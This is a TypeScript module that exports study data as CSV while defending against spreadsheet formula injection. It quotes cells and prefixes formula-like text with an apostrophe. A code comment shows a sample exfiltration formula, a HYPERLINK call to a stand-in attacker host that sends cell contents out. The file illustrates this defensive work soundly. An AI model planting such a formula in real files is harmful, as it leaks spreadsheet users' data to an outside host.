// One CSV record per call: RFC 4180 quoting plus neutralisation of spreadsheet formulas (OWASP "CSV
// injection"). Free-text answers, probe labels and anything else a person typed reach these files,
// and a spreadsheet that opens them runs a cell starting with =, +, - or @ (tab or CR first, too)
// as a formula, e.g. =HYPERLINK("http://evil.example/?"&A1,"click") sends the sheet's data away.
// Pure and hand-written because the export's speed target is per row; JSON exports never pass here,
// so they keep every value exactly as stored.
import { CONTROL_CHARACTERS } from '@/lib/control-characters';

/** The rule as the codebook states it to analysts (one sentence; keep it in step with `csvCell`). */
export const csvTextNote =
  "CSV text cells beginning with = + - @ tab or CR (also after leading spaces) are prefixed with ' so that spreadsheets do not run them as formulas " +
  '(plain numbers such as -3.5 stay as they are) and control characters other than tab, CR and LF appear as U+FFFD, while the JSON export keeps every value exactly as stored.';

// Tab and CR are triggers themselves (spreadsheets trim them and then read a formula); spaces only
// when a trigger follows, since some importers trim them too.
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@])/;
// A cell that is one plain decimal number cannot call a function or reference a cell: a spreadsheet
// reads it as a number, so negative values in text columns (seeds, numeric free text) stay usable.
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
// NUL and the other C0 controls (and DEL) break common CSV readers (R: "embedded nul"); answers stored
// before input validation refused them may still hold some. Tab, LF and CR are kept and quoted.
const CONTROL = new RegExp(CONTROL_CHARACTERS.source, 'g');
// Quoted: the RFC 4180 set, plus ";" and tab because spreadsheets in some locales split on those,
// which could otherwise start a new (unprefixed) cell in the middle of a joined list or a free text.
const NEEDS_QUOTES = /[",;\t\r\n]/;
// One scan that finds cells needing either of the two above; most cells (ids, dates, hashes) need neither.
const SPECIAL = /[\u0000-\u001F\u007F",;]/;

/** Cheap pre-check on the first character: a trigger, or anything `\s` might match (FORMULA_START decides). */
function mayStartFormula(code: number): boolean {
  return code === 61 /* = */ || code === 43 /* + */ || code === 45 /* - */ || code === 64 /* @ */ || code <= 32 || code === 0xa0 || code >= 0x1680;
}

/** One cell as written: numbers and booleans the exporter produced as such stay as they are. */
export function csvCell(value: string | number | boolean | null | undefined): string {
  if (typeof value !== 'string') return value === null || value === undefined ? '' : String(value);
  if (value === '') return value;
  const special = SPECIAL.test(value);
  let text = special ? value.replace(CONTROL, '\uFFFD') : value;
  if (mayStartFormula(text.charCodeAt(0)) && FORMULA_START.test(text) && !PLAIN_NUMBER.test(text)) text = `'${text}`;
  return special && NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * A line writer. The long JSON columns (stimuli shown, parameters) repeat from row to row, so their
 * written form is cached; the cache is bounded (cleared when full) so unique long free-text answers
 * cannot make it grow with the study.
 */
export function makeCsvLine(): (values: readonly (string | number | boolean)[]) => string {
  const written = new Map<string, string>();
  return (values) => {
    let line = '';
    for (let i = 0; i < values.length; i++) {
      const v = values[i];
      let text: string;
      if (typeof v === 'string' && v.length > 64) {
        const hit = written.get(v);
        if (hit === undefined) {
          text = csvCell(v);
          if (written.size >= 256) written.clear();
          written.set(v, text);
        } else text = hit;
      } else text = csvCell(v);
      line += i ? `,${text}` : text;
    }
    return `${line}\n`;
  };
}
